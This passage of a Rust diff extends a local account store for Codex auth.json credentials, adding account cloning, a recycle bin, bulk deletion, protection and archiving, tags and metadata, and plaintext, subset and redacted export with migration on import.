+    /// 按 Codex 的 auth.json 格式写到任意路径（目录 0700、文件 0600）；
+    /// 真实登录走 `write_codex_auth`，试运行暂存见 `staging`
+    pub fn write_auth_file(path: &Path, auth: &serde_json::Value) -> Result<(), String> {
         println!("写入 auth.json 到路径: {:?}", path);
 
         // 确保目录存在
@@ -953,13 +2202,9 @@ impl AccountStore {
         let content =
             serde_json::to_string_pretty(&auth).map_err(|e| format!("序列化失败: {}", e))?;
 
-        // 原子写入：先写临时文件，再重命名
-        let tmp_path = path.with_extension("tmp");
-        write_text_secure(&tmp_path, &content).map_err(|e| format!("写入临时文件失败: {}", e))?;
-
-        fs::rename(&tmp_path, &path)
-            .map_err(|e| format!("重命名文件失败 (Atomic Write): {}", e))?;
-        ensure_private_file_permissions(&path)?;
+        // 原子写入：先写临时文件，再重命名（杀软占用等暂时性错误会退避重试）
+        crate::atomic_write::write_atomic(path, content.as_bytes())?;
+        ensure_private_file_permissions(path)?;
 
         Ok(())
     }
@@ -973,20 +2218,29 @@ impl AccountStore {
     ) -> Account {
         let id = uuid::Uuid::new_v4().to_string();
         let refresh_token = Self::extract_refresh_token(&auth_json);
+        let color = Some(self.next_palette_color().to_string());
+        let name = self.unique_account_name(&name, None);
         let account = Account {
             id: id.clone(),
             name,
+            email: Self::extract_email(&auth_json),
+            kind: if Self::extract_api_key(&auth_json).is_some() {
+                AccountKind::OpenaiKey
+            } else {
+                AccountKind::Legacy
+            },
             auth_json,
             refresh_token, // 从 auth_json 尝试提取
             created_at: Utc::now(),
             last_used: None,
+            switch_count: 0,
+            switch_history: Vec::new(),
             notes,
             cached_quota: None,
             keepalive: KeepaliveState::default(),
             is_banned: false,
             is_token_invalid: false,
             is_logged_out: false,
-            kind: AccountKind::Legacy,
             relay_base_url: None,
             relay_homepage: None,
             relay_usage_preset: None,
@@ -997,6 +2251,21 @@ impl AccountStore {
             relay_protocol: None,
             relay_category: None,
             is_session_anchor: false,
+            color,
+            avatar_emoji: None,
+            last_plan_change: None,
+            token_ref: None,
+            auth_profile_id: None,
+            refresh_token_used_at: None,
+            codex_profile: None,
+            request_headers: Default::default(),
+            tags: Vec::new(),
+            metadata: Default::default(),
+            pinned: false,
+            protected: false,
+            archived: false,
+            sort_index: None,
+            updated_at: None,
         };
 
         self.accounts.insert(id.clone(), account.clone());
@@ -1037,14 +2306,18 @@ impl AccountStore {
             },
             "last_refresh": Utc::now().to_rfc3339(),
         });
+        let name = self.unique_account_name(&name, None);
 
         let account = Account {
             id: id.clone(),
             name,
+            email: None,
             auth_json,
             refresh_token: None,
             created_at: Utc::now(),
             last_used: None,
+            switch_count: 0,
+            switch_history: Vec::new(),
             notes,
             cached_quota: None,
             keepalive: KeepaliveState::default(),
@@ -1062,6 +2335,21 @@ impl AccountStore {
             relay_protocol,
             relay_category,
             is_session_anchor: false,
+            color: None,
+            avatar_emoji: None,
+            last_plan_change: None,
+            token_ref: None,
+            auth_profile_id: None,
+            refresh_token_used_at: None,
+            codex_profile: None,
+            request_headers: Default::default(),
+            tags: Vec::new(),
+            metadata: Default::default(),
+            pinned: false,
+            protected: false,
+            archived: false,
+            sort_index: None,
+            updated_at: None,
         };
 
         self.accounts.insert(id.clone(), account.clone());
@@ -1090,13 +2378,20 @@ impl AccountStore {
     pub fn switch_to(&mut self, id: &str, _hot_legacy: bool) -> Result<(), String> {
         let anchor_id = self.session_anchor_id();
         let target_is_anchor = anchor_id.as_deref() == Some(id);
+        if self.trash.contains_key(id) {
+            return Err(format!("账号在回收站里，先恢复再切换: {}", id));
+        }
+        if self.accounts.get(id).is_some_and(|a| a.archived) {
+            return Err(format!("账号已归档，取消归档后再切换: {}", id));
+        }
 
         let account = self
             .accounts
             .get_mut(id)
             .ok_or_else(|| format!("账号不存在: {}", id))?;
 
-        account.last_used = Some(Utc::now());
+        account.record_switch(Utc::now());
+        account.touch();
 
         println!("正在切换账号: {}", id);
         if anchor_id.is_some() && !target_is_anchor {
@@ -1109,7 +2404,11 @@ impl AccountStore {
         } else {
             // 无 anchor 或切回 anchor 自身：照旧落盘。
             // Relay 走 ApiKey schema，订阅号走原 OAuth schema —— 见 to_codex_auth_value 注释。
-            Self::write_codex_auth(&account.to_codex_auth_value())?;
+            Self::write_codex_auth(
+                &account.to_codex_auth_value(),
+                AuthWriteOp::Switch,
+                Some(&account.id),
+            )?;
             println!("账号切换成功: auth.json 已更新");
         }
 
@@ -1117,22 +2416,211 @@ impl AccountStore {
         Ok(())
     }
 
-    /// 删除账号
+    /// 复制一份账号当备份（动 token 之前留个能回滚的冻结副本）：auth_json / refresh_token /
+    /// 备注照抄，额度缓存、使用记录、置顶和手机锚不带，备注末尾记上来源和时间。
+    /// 副本关掉非活跃保活（保活会轮换 refresh_token，顶掉原账号的），也不会自动成为当前账号
+    pub fn clone_account(&mut self, id: &str, new_name: String) -> Result<Account, String> {
+        let source = self
+            .accounts
+            .get(id)
+            .ok_or_else(|| format!("账号不存在: {}", id))?;
+        if source.token_ref.is_some() {
+            return Err("账号的 token 还没从凭据库读出来，暂时不能复制".to_string());
+        }
+        let name = new_name.trim();
+        if name.is_empty() {
+            return Err("请填写副本名称".to_string());
+        }
+        let now = Utc::now();
+        let mark = format!(
+            "复制自 {}（{}）",
+            source.name,
+            now.with_timezone(&chrono::Local).format("%Y-%m-%d %H:%M")
+        );
+        let notes = match source.notes.as_deref().map(str::trim) {
+            Some(notes) if !notes.is_empty() => format!("{}\n{}", notes, mark),
+            _ => mark,
+        };
+        let name = self.unique_account_name(name, None);
+        let clone = Account {
+            id: uuid::Uuid::new_v4().to_string(),
+            name,
+            created_at: now,
+            last_used: None,
+            switch_count: 0,
+            switch_history: Vec::new(),
+            notes: Some(notes),
+            cached_quota: None,
+            keepalive: KeepaliveState {
+                inactive_refresh_enabled: false,
+                ..KeepaliveState::default()
+            },
+            relay_usage_cache: None,
+            is_session_anchor: false,
+            last_plan_change: None,
+            pinned: false,
+            protected: false,
+            sort_index: None,
+            updated_at: Some(now),
+            ..source.clone()
+        };
+        self.accounts.insert(clone.id.clone(), clone.clone());
+        Ok(clone)
+    }
+
+    /// 删除账号：移进回收站，可用 [`Self::restore_from_trash`] 恢复。受保护的账号拒绝
     pub fn delete_account(&mut self, id: &str) -> Result<(), String> {
         if !self.accounts.contains_key(id) {
             return Err(format!("账号不存在: {}", id));
         }
+        self.ensure_unprotected(id, "删除")?;
 
-        self.accounts.remove(id);
+        // 放进回收站，凭据库条目留到彻底清掉时再删
+        let now = Utc::now();
+        if let Some(account) = self.accounts.remove(id) {
+            self.trash.insert(
+                id.to_string(),
+                TrashedAccount {
+                    account,
+                    deleted_at: now,
+                },
+            );
+        }
+        self.fingerprints.remove(id);
+        self.record_tombstone(id, now);
 
         // 如果删除的是当前账号，清空 current
         if self.current.as_deref() == Some(id) {
             self.current = self.accounts.keys().next().cloned();
         }
+        // 其它安装不自动换号：auth.json 留着，等下次在那个安装里切号
+        self.install_current.retain(|_, current| current != id);
+
+        Ok(())
+    }
+
+    /// 批量删除会删哪些、跳过哪些（不改动账号库）：不存在、重复、受保护的跳过，
+    /// 当前账号除非 `allow_current` 也跳过
+    pub fn plan_delete_accounts(&self, ids: &[String], allow_current: bool) -> BulkDelete {
+        let mut result = BulkDelete::default();
+        for id in ids {
+            let reason = if result.removed.contains(id) {
+                "重复".to_string()
+            } else if !self.accounts.contains_key(id) {
+                "账号不存在".to_string()
+            } else if let Err(e) = self.ensure_unprotected(id, "删除") {
+                e
+            } else if !allow_current && self.current.as_deref() == Some(id.as_str()) {
+                "是当前账号".to_string()
+            } else {
+                result.removed.push(id.clone());
+                continue;
+            };
+            result.skipped.push(SkippedDelete {
+                id: id.clone(),
+                reason,
+            });
+        }
+        result
+    }
+
+    /// 批量删除：按 [`Self::plan_delete_accounts`] 校验完整批，再一次删掉能删的。
+    /// 删到当前账号时 current 最后清空一次（auth.json 里还是它的 token，指向别的号会和磁盘对不上）
+    pub fn delete_accounts(&mut self, ids: &[String], allow_current: bool) -> BulkDelete {
+        let result = self.plan_delete_accounts(ids, allow_current);
+        let current = self.current.take();
+        for id in &result.removed {
+            self.delete_account(id).expect("checked above");
+        }
+        self.current = current.filter(|id| !result.removed.contains(id));
+        result
+    }
+
+    /// 放回之前删掉 / 覆盖掉的账号（撤销用，见 `undo`）：数据原样，只刷新修改时间并去掉删除记录，
+    /// 让增量加载把它当作变更发给前端
+    pub fn restore_account(&mut self, mut account: Account) {
+        self.trash.remove(&account.id);
+        self.deleted_accounts.retain(|t| t.id != account.id);
+        account.touch();
+        self.accounts.insert(account.id.clone(), account);
+    }
 
+    /// 从回收站恢复账号
+    pub fn restore_from_trash(&mut self, id: &str) -> Result<(), String> {
+        if self.accounts.contains_key(id) {
+            return Err(format!("账号已存在: {}", id));
+        }
+        let entry = self
+            .trash
+            .remove(id)
+            .ok_or_else(|| format!("回收站里没有这个账号: {}", id))?;
+        self.restore_account(entry.account);
         Ok(())
     }
 
+    /// 回收站，最近删的在前
+    pub fn list_trash(&self) -> Vec<&TrashedAccount> {
+        let mut entries: Vec<_> = self.trash.values().collect();
+        entries.sort_by_key(|entry| std::cmp::Reverse(entry.deleted_at));
+        entries
+    }
+
+    /// 彻底清掉在回收站里放了 `older_than` 以上的账号（连同凭据库条目），返回清掉的 id
+    pub fn purge_trash(&mut self, older_than: chrono::Duration, now: DateTime<Utc>) -> Vec<String> {
+        let cutoff = now - older_than;
+        let expired: Vec<String> = self
+            .trash
+            .iter()
+            .filter(|(_, entry)| entry.deleted_at <= cutoff)
+            .map(|(id, _)| id.clone())
+            .collect();
+        for id in &expired {
+            if let Some(entry) = self.trash.remove(id) {
+                self.forget_tokens(&entry.account);
+            }
+        }
+        expired
+    }
+
+    /// 按设置 `trash_retention_days` 自动清回收站（0 = 不清）
+    pub fn purge_expired_trash(&mut self, now: DateTime<Utc>) -> Vec<String> {
+        match self.settings.trash_retention_days {
+            0 => Vec::new(),
+            days => self.purge_trash(chrono::Duration::days(days as i64), now),
+        }
+    }
+
+    /// 删掉账号在凭据库里的 token
+    fn forget_tokens(&self, account: &Account) {
+        if self.settings.token_storage == TokenStorage::Keychain || account.token_ref.is_some() {
+            let key = token_store::token_ref_key(&account.id);
+            if let Err(e) = token_store::keychain().delete(&key) {
+                eprintln!("[TokenStore] 删除凭据库条目 {} 失败: {}", key, e);
+            }
+        }
+    }
+
+    /// 库里和回收站里的全部账号（token 存取要连回收站一起处理）
+    fn all_accounts(&self) -> impl Iterator<Item = &Account> {
+        self.accounts
+            .values()
+            .chain(self.trash.values().map(|entry| &entry.account))
+    }
+
+    fn all_accounts_mut(&mut self) -> impl Iterator<Item = &mut Account> {
+        self.accounts
+            .values_mut()
+            .chain(self.trash.values_mut().map(|entry| &mut entry.account))
+    }
+
+    /// 账号刷新 token 用的 OAuth 配置，见 [`oauth::resolve_profile`]
+    pub fn auth_profile_of(&self, account: &Account) -> AuthProfile {
+        oauth::resolve_profile(
+            &self.settings.auth_profiles,
+            account.auth_profile_id.as_deref(),
+        )
+    }
+
     /// 获取当前手机锚账号 ID（最多一个）
     pub fn session_anchor_id(&self) -> Option<String> {
         self.accounts
@@ -1168,15 +2656,18 @@ impl AccountStore {
         if enabled {
             // 互斥：先清其他，再开当前
             for acc in self.accounts.values_mut() {
-                if acc.id != id {
+                if acc.id != id && acc.is_session_anchor {
                     acc.is_session_anchor = false;
+                    acc.touch();
                 }
             }
             if let Some(acc) = self.accounts.get_mut(id) {
                 acc.is_session_anchor = true;
+                acc.touch();
             }
         } else if let Some(acc) = self.accounts.get_mut(id) {
             acc.is_session_anchor = false;
+            acc.touch();
         }
         Ok(())
     }
@@ -1220,7 +2711,7 @@ impl AccountStore {
                 );
             }
         }
-        Self::write_codex_auth(&auth)?;
+        Self::write_codex_auth(&auth, AuthWriteOp::Anchor, Some(&anchor.id))?;
         Ok(true)
     }
 
@@ -1231,6 +2722,10 @@ impl AccountStore {
         name: Option<String>,
         notes: Option<String>,
     ) -> Result<(), String> {
+        if !self.accounts.contains_key(id) {
+            return Err(format!("账号不存在: {}", id));
+        }
+        let name = name.map(|n| self.unique_account_name(&n, Some(id)));
         let account = self
             .accounts
             .get_mut(id)
@@ -1242,6 +2737,7 @@ impl AccountStore {
         if notes.is_some() {
             account.notes = notes;
         }
+        account.touch();
 
         Ok(())
     }
@@ -1261,6 +2757,7 @@ impl AccountStore {
         }
         account.relay_usage_cookie = usage_cookie;
         account.relay_usage_cache = None;
+        account.touch();
         Ok(())
     }
 
@@ -1271,27 +2768,502 @@ impl AccountStore {
             .get_mut(id)
             .ok_or_else(|| format!("账号不存在: {}", id))?;
         account.keepalive.inactive_refresh_enabled = enabled;
+        account.touch();
         Ok(())
     }
 
-    /// 获取所有账号列表
-    pub fn list_accounts(&self) -> Vec<&Account> {
-        let mut accounts: Vec<_> = self.accounts.values().collect();
-        accounts.sort_by(|a, b| b.created_at.cmp(&a.created_at));
-        accounts
+    /// 给账号挂刷新禁令并标记 TokenInvalid；已经挂着禁令（或账号不存在）时返回 false
+    pub fn ban_refresh(&mut self, id: &str, reason: &str) -> bool {
+        let Some(account) = self.accounts.get_mut(id) else {
+            return false;
+        };
+        if account.keepalive.refresh_ban.is_some() {
+            return false;
+        }
+        account.keepalive.refresh_ban = Some(RefreshBan {
+            banned_at: Utc::now(),
+            reason: reason.to_string(),
+        });
+        account.keepalive.last_error = Some(reason.to_string());
+        account.is_token_invalid = true;
+        account.touch();
+        true
     }
 
-    /// 导出配置
-    pub fn export(&self) -> Result<String, String> {
-        serde_json::to_string_pretty(self).map_err(|e| format!("导出失败: {}", e))
-    }
+    /// 新登录拿到的 auth 属于哪个挂着刷新禁令的已有账号（同一邮箱且身份一致）
+    pub fn find_refresh_banned_account(&self, auth: &Value) -> Option<String> {
+        let email = Self::extract_email(auth)?.to_lowercase();
+        self.accounts
+            .values()
+            .filter(|a| a.keepalive.refresh_ban.is_some())
+            .find(|a| a.has_email(&email) && Self::auth_identity_matches(&a.auth_json, auth))
+            .map(|a| a.id.clone())
+    }
+
+    /// 重新登录成功：换上新 token，解除刷新禁令和失效标记。禁令只在这里解除
+    pub fn complete_relogin(
+        &mut self,
+        id: &str,
+        auth_json: Value,
+        refresh_token: Option<String>,
+    ) -> Result<(), String> {
+        let account = self
+            .accounts
+            .get_mut(id)
+            .ok_or_else(|| format!("账号不存在: {}", id))?;
+        account.auth_json = auth_json;
+        account.refresh_email();
+        account.refresh_token = refresh_token;
+        account.keepalive.refresh_ban = None;
+        account.keepalive.last_error = None;
+        account.is_token_invalid = false;
+        account.is_logged_out = false;
+        account.touch();
+        Ok(())
+    }
+
+    /// 设置 / 清除账号颜色标签（`None` 或空串清除）
+    pub fn set_account_color(&mut self, id: &str, color: Option<&str>) -> Result<(), String> {
+        let normalized = match color.map(str::trim).filter(|c| !c.is_empty()) {
+            Some(raw) => Some(normalize_hex_color(raw)?),
+            None => None,
+        };
+        let account = self
+            .accounts
+            .get_mut(id)
+            .ok_or_else(|| format!("账号不存在: {}", id))?;
+        account.color = normalized;
+        account.touch();
+        Ok(())
+    }
+
+    /// 同时设置颜色和头像 emoji（整体替换，传空清除）；校验失败时两项都不改
+    pub fn update_account_appearance(
+        &mut self,
+        id: &str,
+        color: Option<&str>,
+        emoji: Option<&str>,
+    ) -> Result<(), String> {
+        let color = match color.map(str::trim).filter(|c| !c.is_empty()) {
+            Some(raw) => Some(normalize_hex_color(raw)?),
+            None => None,
+        };
+        let emoji = normalize_avatar_emoji(emoji.unwrap_or_default())?;
+        let account = self
+            .accounts
+            .get_mut(id)
+            .ok_or_else(|| format!("账号不存在: {}", id))?;
+        account.color = color;
+        account.avatar_emoji = emoji;
+        account.touch();
+        Ok(())
+    }
+
+    /// 不和其他账号重名的名字（比较时忽略大小写和首尾空白）：重名就在基名后加 ` (2)`、` (3)`……，
+    /// 基名是去掉末尾已有 ` (n)` 的部分，所以 `work (2)` 撞了得到 `work (3)` 而不是 `work (2) (2)`。
+    /// `except` 为正在改名的账号自己
+    pub fn unique_account_name(&self, wanted: &str, except: Option<&str>) -> String {
+        let taken: HashSet<String> = self
+            .accounts
+            .values()
+            .filter(|a| Some(a.id.as_str()) != except)
+            .map(|a| name_key(&a.name))
+            .collect();
+        unique_name(wanted, &taken)
+    }
+
+    /// 导入的配置里有重名账号时按创建时间（再按 id）排，先建的保留原名，后面的加序号；
+    /// 只改名字，id 不动。返回被改名的账号数
+    pub fn dedupe_account_names(&mut self) -> usize {
+        let mut order: Vec<(DateTime<Utc>, String)> = self
+            .accounts
+            .values()
+            .map(|a| (a.created_at, a.id.clone()))
+            .collect();
+        order.sort();
+        let mut taken = HashSet::new();
+        let mut renamed = 0;
+        for (_, id) in order {
+            let Some(account) = self.accounts.get_mut(&id) else {
+                continue;
+            };
+            let name = unique_name(&account.name, &taken);
+            taken.insert(name_key(&name));
+            if name != account.name {
+                println!(
+                    "[AccountStore] 导入的账号重名，已改名: {} → {}",
+                    account.name, name
+                );
+                account.name = name;
+                account.touch();
+                renamed += 1;
+            }
+        }
+        renamed
+    }
+
+    /// 色板里还没被用掉的第一个颜色；都用过了按账号数轮转
+    fn next_palette_color(&self) -> &'static str {
+        let used: Vec<&str> = self
+            .accounts
+            .values()
+            .filter_map(|a| a.color.as_deref())
+            .collect();
+        ACCOUNT_COLOR_PALETTE
+            .iter()
+            .find(|c| !used.contains(c))
+            .copied()
+            .unwrap_or(ACCOUNT_COLOR_PALETTE[self.accounts.len() % ACCOUNT_COLOR_PALETTE.len()])
+    }
+
+    /// 设置账号切换时使用的 Codex profile（传空清除）
+    pub fn set_codex_profile(&mut self, id: &str, profile: Option<&str>) -> Result<(), String> {
+        let profile = profile.map(str::trim).filter(|p| !p.is_empty());
+        let account = self
+            .accounts
+            .get_mut(id)
+            .ok_or_else(|| format!("账号不存在: {}", id))?;
+        account.codex_profile = profile.map(str::to_string);
+        account.touch();
+        Ok(())
+    }
+
+    /// 置顶 / 取消置顶
+    pub fn pin_account(&mut self, id: &str, pinned: bool) -> Result<(), String> {
+        let account = self
+            .accounts
+            .get_mut(id)
+            .ok_or_else(|| format!("账号不存在: {}", id))?;
+        if account.pinned != pinned {
+            account.pinned = pinned;
+            account.touch();
+        }
+        Ok(())
+    }
+
+    /// 设置 / 取消保护；取消保护的确认由调用方把关
+    pub fn set_account_protected(&mut self, id: &str, protected: bool) -> Result<(), String> {
+        let account = self
+            .accounts
+            .get_mut(id)
+            .ok_or_else(|| format!("账号不存在: {}", id))?;
+        if account.protected != protected {
+            account.protected = protected;
+            account.touch();
+        }
+        Ok(())
+    }
+
+    /// 账号受保护时拒绝 `action`（删除、覆盖 token……）；账号不存在不算
+    pub fn ensure_unprotected(&self, id: &str, action: &str) -> Result<(), String> {
+        match self.accounts.get(id) {
+            Some(account) if account.protected => Err(format!(
+                "账号 {} 受保护，不能{}；需要的话先取消保护",
+                account.name, action
+            )),
+            _ => Ok(()),
+        }
+    }
+
+    /// 归档 / 取消归档
+    pub fn archive_account(&mut self, id: &str, archived: bool) -> Result<(), String> {
+        let account = self
+            .accounts
+            .get_mut(id)
+            .ok_or_else(|| format!("账号不存在: {}", id))?;
+        if account.archived != archived {
+            account.archived = archived;
+            account.touch();
+        }
+        Ok(())
+    }
+
+    /// 按给定顺序重排：列出的账号依次占位置 0, 1, 2……，没列出的清掉位置、
+    /// 退回按新建时间排。有不存在或重复的 id 时整体拒绝，不改任何账号
+    pub fn reorder_accounts(&mut self, ids: &[String]) -> Result<(), String> {
+        let mut positions: HashMap<&str, u32> = HashMap::new();
+        for (index, id) in ids.iter().enumerate() {
+            if !self.accounts.contains_key(id) {
+                return Err(format!("账号不存在: {}", id));
+            }
+            if positions.insert(id.as_str(), index as u32).is_some() {
+                return Err(format!("排序里有重复的账号: {}", id));
+            }
+        }
+        for account in self.accounts.values_mut() {
+            let index = positions.get(account.id.as_str()).copied();
+            if account.sort_index != index {
+                account.sort_index = index;
+                account.touch();
+            }
+        }
+        Ok(())
+    }
+
+    /// 设置账号的分组标签（整体替换，传空表清除）
+    pub fn set_account_tags(&mut self, id: &str, tags: Vec<String>) -> Result<(), String> {
+        let tags = normalize_tags(tags)?;
+        let account = self
+            .accounts
+            .get_mut(id)
+            .ok_or_else(|| format!("账号不存在: {}", id))?;
+        account.tags = tags;
+        account.touch();
+        Ok(())
+    }
+
+    /// 设置账号的一条键值备注（键已存在时覆盖）
+    pub fn set_account_metadata(&mut self, id: &str, key: &str, value: &str) -> Result<(), String> {
+        let key = normalize_metadata_key(key)?;
+        let value = value.trim();
+        if value.is_empty() {
+            return Err(format!("{} 的值不能为空，要去掉这一条请删除", key));
+        }
+        if value.len() > MAX_METADATA_VALUE_BYTES {
+            return Err(format!(
+                "{} 的值过长（最多 {} 字节）",
+                key, MAX_METADATA_VALUE_BYTES
+            ));
+        }
+        let account = self
+            .accounts
+            .get_mut(id)
+            .ok_or_else(|| format!("账号不存在: {}", id))?;
+        if !account.metadata.contains_key(&key) && account.metadata.len() >= MAX_METADATA_ENTRIES {
+            return Err(format!(
+                "键值备注最多 {} 条，先删掉不用的",
+                MAX_METADATA_ENTRIES
+            ));
+        }
+        account.metadata.insert(key, value.to_string());
+        account.touch();
+        Ok(())
+    }
+
+    /// 删除账号的一条键值备注；返回是否真有这一条
+    pub fn delete_account_metadata(&mut self, id: &str, key: &str) -> Result<bool, String> {
+        let key = normalize_metadata_key(key)?;
+        let account = self
+            .accounts
+            .get_mut(id)
+            .ok_or_else(|| format!("账号不存在: {}", id))?;
+        let removed = account.metadata.remove(&key).is_some();
+        if removed {
+            account.touch();
+        }
+        Ok(removed)
+    }
+
+    /// 设置账号查配额时额外带的请求头（校验见 `request_headers::normalize`）
+    pub fn set_request_headers(
+        &mut self,
+        id: &str,
+        headers: std::collections::BTreeMap<String, String>,
+    ) -> Result<(), String> {
+        let headers = crate::request_headers::normalize(headers)?;
+        let account = self
+            .accounts
+            .get_mut(id)
+            .ok_or_else(|| format!("账号不存在: {}", id))?;
+        account.request_headers = headers;
+        account.touch();
+        Ok(())
+    }
+
+    /// 把没走 [`Account::touch`] 的直接改动（`store.accounts.get_mut(..)` 改字段等）也记上
+    /// `updated_at`，并给不见了的账号补删除记录。
+    ///
+    /// 对比的是上次调用留下的内容指纹：第一次调用（`load` 末尾）只建立基线。
+    /// 自己已经记过、且晚于上次调用的 `updated_at` 不会被覆盖。返回这次补记的账号数
+    pub fn stamp_changes(&mut self) -> usize {
+        let now = Utc::now();
+        let Some(since) = self.stamped_at else {
+            self.fingerprints = self
+                .accounts
+                .iter()
+                .map(|(id, a)| (id.clone(), content_fingerprint(a)))
+                .collect();
+            self.stamped_at = Some(now);
+            return 0;
+        };
+
+        let mut stamped = 0;
+        let mut fingerprints = HashMap::with_capacity(self.accounts.len());
+        for (id, account) in self.accounts.iter_mut() {
+            let fingerprint = content_fingerprint(account);
+            if self.fingerprints.get(id) != Some(&fingerprint) && account.modified_at() <= since {
+                account.updated_at = Some(now);
+                stamped += 1;
+            }
+            fingerprints.insert(id.clone(), fingerprint);
+        }
+        let vanished: Vec<String> = self
+            .fingerprints
+            .keys()
+            .filter(|id| !self.accounts.contains_key(*id))
+            .cloned()
+            .collect();
+        for id in vanished {
+            self.record_tombstone(&id, now);
+        }
+        self.fingerprints = fingerprints;
+        self.stamped_at = Some(now);
+        stamped
+    }
+
+    /// 最近一次 [`AccountStore::stamp_changes`] 的时间，即增量加载的游标。
+    /// 之后的修改和删除时间都晚于它
+    pub fn changes_cursor(&self) -> Option<DateTime<Utc>> {
+        self.stamped_at
+    }
+
+    /// 记一条删除；超出 [`MAX_TOMBSTONES`] 时裁掉最早的，并记下裁剪点
+    fn record_tombstone(&mut self, id: &str, deleted_at: DateTime<Utc>) {
+        self.deleted_accounts.retain(|t| t.id != id);
+        self.deleted_accounts.push(AccountTombstone {
+            id: id.to_string(),
+            deleted_at,
+        });
+        if self.deleted_accounts.len() > MAX_TOMBSTONES {
+            let excess = self.deleted_accounts.len() - MAX_TOMBSTONES;
+            let pruned = self
+                .deleted_accounts
+                .drain(..excess)
+                .map(|t| t.deleted_at)
+                .max();
+            self.tombstones_pruned_at = self.tombstones_pruned_at.max(pruned);
+        }
+    }
+
+    /// 获取所有账号列表，顺序见 [`Account::display_order`]
+    pub fn list_accounts(&self) -> Vec<&Account> {
+        let mut accounts: Vec<_> = self.accounts.values().collect();
+        accounts.sort_by(|a, b| Account::display_order(a, b));
+        accounts
+    }
+
+    /// 导出配置（不管用哪种存储，token 都明文写进导出内容）
+    pub fn export(&self) -> Result<String, String> {
+        let unresolved = self.unresolved_token_accounts();
+        if !unresolved.is_empty() {
+            return Err(format!(
+                "以下账号的 token 还在凭据库里读不出来，导出会缺 token，请先解锁钥匙串: {}",
+                unresolved.join(", ")
+            ));
+        }
+        // 多个账号共用的长 token 只写一份（见 `token_intern`）；没有重复时按原格式导出
+        let mut doc = serde_json::to_value(self).map_err(|e| format!("导出失败: {}", e))?;
+        if crate::token_intern::intern(&mut doc).references == 0 {
+            return serde_json::to_string_pretty(self).map_err(|e| format!("导出失败: {}", e));
+        }
+        serde_json::to_string_pretty(&doc).map_err(|e| format!("导出失败: {}", e))
+    }
+
+    /// 只导出 `ids` 里的账号（交给队友用）：当前账号清空，回收站 / 删除记录不带；
+    /// `include_settings` 为 false 时连 `settings` 字段都不写，导入方保留自己的设置
+    /// （见 [`Self::export_has_settings`]）。有不认识的 id 直接报错
+    pub fn export_subset(&self, ids: &[String], include_settings: bool) -> Result<String, String> {
+        if ids.is_empty() {
+            return Err("没有选择要导出的账号".to_string());
+        }
+        let unknown: Vec<&str> = ids
+            .iter()
+            .filter(|id| !self.accounts.contains_key(*id))
+            .map(String::as_str)
+            .collect();
+        if !unknown.is_empty() {
+            return Err(format!("账号不存在: {}", unknown.join(", ")));
+        }
+        let subset = AccountStore {
+            accounts: ids
+                .iter()
+                .map(|id| (id.clone(), self.accounts[id].clone()))
+                .collect(),
+            version: self.version,
+            settings: if include_settings {
+                self.settings.clone()
+            } else {
+                AppSettings::default()
+            },
+            ..AccountStore::default()
+        };
+        let exported = subset.export()?;
+        if include_settings {
+            return Ok(exported);
+        }
+        let mut doc: Value =
+            serde_json::from_str(&exported).map_err(|e| format!("导出失败: {}", e))?;
+        if let Some(obj) = doc.as_object_mut() {
+            obj.remove("settings");
+        }
+        serde_json::to_string_pretty(&doc).map_err(|e| format!("导出失败: {}", e))
+    }
+
+    /// 导出内容里带没带 `settings`；不带的（部分导出）导入时应保留本机设置
+    pub fn export_has_settings(json: &str) -> bool {
+        serde_json::from_str::<Value>(json)
+            .ok()
+            .is_some_and(|doc| doc.get("settings").is_some())
+    }
+
+    /// 脱敏导出（贴进求助帖看账号布局和额度用）：账号上的 refresh_token 清空，
+    /// auth_json 里的 access / id / refresh token 换成 [`REDACTED`]，API key、cookie 之类的凭据同样处理；
+    /// account_id、last_refresh、名字、备注、额度缓存照旧。回收站和删除记录不带。
+    /// 顶层带 [`REDACTED_EXPORT_MARKER`]，[`Self::import`] 见到就拒绝
+    pub fn export_redacted(&self) -> Result<String, String> {
+        let mut accounts = self.accounts.clone();
+        for account in accounts.values_mut() {
+            account.refresh_token = None;
+        }
+        let redacted = AccountStore {
+            accounts,
+            current: self.current.clone(),
+            version: self.version,
+            settings: self.settings.clone(),
+            ..AccountStore::default()
+        };
+        let mut doc = serde_json::to_value(&redacted).map_err(|e| format!("导出失败: {}", e))?;
+        redact_export_value(&mut doc);
+        if let Some(obj) = doc.as_object_mut() {
+            obj.insert(REDACTED_EXPORT_MARKER.to_string(), Value::Bool(true));
+        }
+        serde_json::to_string_pretty(&doc).map_err(|e| format!("导出失败: {}", e))
+    }
 
     /// 导入配置
     pub fn import(json: &str) -> Result<Self, String> {
-        let mut store: Self = serde_json::from_str(json).map_err(|e| format!("导入失败: {}", e))?;
+        let mut doc: Value = serde_json::from_str(json).map_err(|e| format!("导入失败: {}", e))?;
+        if doc.get(REDACTED_EXPORT_MARKER).is_some() {
+            return Err(REDACTED_IMPORT_REFUSED.to_string());
+        }
+        crate::token_intern::expand(&mut doc)?;
+        crate::store_migration::migrate(&mut doc).map_err(|e| format!("导入失败: {}", e))?;
+        let mut store: Self =
+            serde_json::from_value(doc).map_err(|e| format!("导入失败: {}", e))?;
         store.backfill_refresh_tokens();
+        store.backfill_emails();
+        store.dedupe_account_names();
+        store.settings.refresh_interval_minutes =
+            clamp_refresh_interval(store.settings.refresh_interval_minutes);
         Ok(store)
     }
+
+    /// API key 形态 auth.json（Codex 的 ApiKey 模式：没有 tokens，只有 `OPENAI_API_KEY`）里的 key。
+    /// OAuth 登录里顺带存的 `OPENAI_API_KEY` 不算
+    pub fn extract_api_key(auth_json: &Value) -> Option<String> {
+        if Self::extract_access_token(auth_json).is_some()
+            || Self::extract_refresh_token(auth_json).is_some()
+        {
+            return None;
+        }
+        auth_json
+            .get("OPENAI_API_KEY")
+            .and_then(|v| v.as_str())
+            .map(str::trim)
+            .filter(|s| !s.is_empty())
+            .map(|s| s.to_string())
+    }
+
     /// 从 auth_json 中提取 refresh_token（兼容 tokens.refresh_token 或根级 refresh_token）
     pub fn extract_refresh_token(auth_json: &Value) -> Option<String> {
         auth_json
@@ -1330,7 +3302,7 @@ impl AccountStore {
 /// 从 `tokens.access_token` (JWT) 解出 `exp` claim 并转 RFC3339。
 /// 用于 v0.7.1 退出兜底：OpenAI 给的 access_token JWT 真实寿命 ~240h，
 /// 远大于 OAuth response 里 `expires_in: 86400` 字段，所以单独走 JWT 解码。
-fn extract_access_token_jwt_exp_iso(auth: &Value) -> Option<String> {
+pub(crate) fn extract_access_token_jwt_exp_iso(auth: &Value) -> Option<String> {
     use base64::Engine;
     let at = auth
